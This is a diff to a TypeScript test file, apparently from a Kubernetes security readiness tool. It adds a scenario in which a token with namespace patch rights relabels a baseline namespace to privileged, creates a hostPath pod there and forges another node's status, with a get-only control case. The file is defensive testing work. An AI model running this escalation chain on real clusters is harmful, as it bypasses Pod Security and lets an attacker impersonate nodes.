@@ -35,6 +35,8 @@ import { CAPABILITY_TITLES } from '@kubectl-readiness/shared';
 const OPEN = 'pods-open';
 /** Pod Security enforces baseline: no privileged pod, no hostPath. */
 const BASELINE = 'pods-baseline';
+/** Baseline as well, in its own namespace so relabelling it leaves the other attacks alone. */
+const RELABEL = 'pods-relabel';
 const NAMESPACES = `apiVersion: v1
 kind: Namespace
 metadata: {name: ${OPEN}}
@@ -42,12 +44,16 @@ metadata: {name: ${OPEN}}
 apiVersion: v1
 kind: Namespace
 metadata: {name: ${BASELINE}, labels: {pod-security.kubernetes.io/enforce: baseline}}
+---
+apiVersion: v1
+kind: Namespace
+metadata: {name: ${RELABEL}, labels: {pod-security.kubernetes.io/enforce: baseline}}
 `;
 
 /** kube-controller-manager's serviceaccount controller fills a new namespace's default ServiceAccount; a pod needs it. */
 async function namespacesReady(cluster: Cluster): Promise<void> {
   await cluster.kubectlOk(['apply', '-f', '-'], NAMESPACES);
-  for (const namespace of [OPEN, BASELINE]) {
+  for (const namespace of [OPEN, BASELINE, RELABEL]) {
     const ready = await poll(30, async () =>
       (await cluster.kubectl(['-n', namespace, 'get', 'serviceaccount', 'default'])).code === 0 ? true : null,
     );
@@ -174,6 +180,30 @@ async function createPodAndForge(cluster: Cluster, token: string, namespace: str
   ).trim();
   return forgeStatus(cluster, podToken, `system:node:${TARGET}`);
 }
+
+/**
+ * Relabels the baseline namespace to privileged with the reporter's token,
+ * then creates the hostPath pod there: Pod Security reads the label at the
+ * pod's admission. The label is put back whatever happens.
+ */
+async function relabelAndPrivilegedPod(cluster: Cluster, token: string): Promise<ApiResponse> {
+  const relabelled = await apiRequest(cluster, {
+    method: 'PATCH',
+    path: `/api/v1/namespaces/${RELABEL}`,
+    token,
+    body: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } },
+    contentType: 'application/merge-patch+json',
+  });
+  try {
+    return relabelled.status === 200 ? await privilegedPodAndForge(cluster, token, RELABEL) : relabelled;
+  } finally {
+    await cluster.kubectlOk(['label', 'namespace', RELABEL, 'pod-security.kubernetes.io/enforce=baseline', '--overwrite']);
+  }
+}
+
+const relabeller = (verbs: string) =>
+  `${podCreator(RELABEL)}---
+${role(`namespace-${verbs.replace(/\W+/g, '-')}`, `[{apiGroups: [""], resources: [namespaces], verbs: [${verbs}], resourceNames: [${RELABEL}]}]`)}`;
 
 /** A kubeadm cluster's join token, and kubeadm's bindings of its group: ask for a kubelet certificate, auto-approved for nodeclient. */
 const BOOTSTRAP = { id: 'abcdef', secret: '0123456789abcdef', group: 'system:bootstrappers:kubeadm:default-node-token' };
@@ -401,6 +431,21 @@ const attacks: [Attack, Attack][] = [
       name: 'the same pod in a namespace that enforces baseline',
       grants: podCreator(BASELINE),
       run: (cluster, token) => privilegedPodAndForge(cluster, token, BASELINE),
+      capability: 'forge-other-node-conditions',
+    },
+  ],
+  [
+    {
+      name: "relabelling a baseline namespace to privileged, then the hostPath pod there: node-b's identity",
+      grants: relabeller('get, patch'),
+      run: relabelAndPrivilegedPod,
+      capability: 'forge-other-node-conditions',
+    },
+    {
+      // One verb less: the label stays baseline, so Pod Security refuses the pod as in the baseline twin above.
+      name: 'the same, with only get on that namespace',
+      grants: relabeller('get'),
+      run: relabelAndPrivilegedPod,
       capability: 'forge-other-node-conditions',
     },
   ],
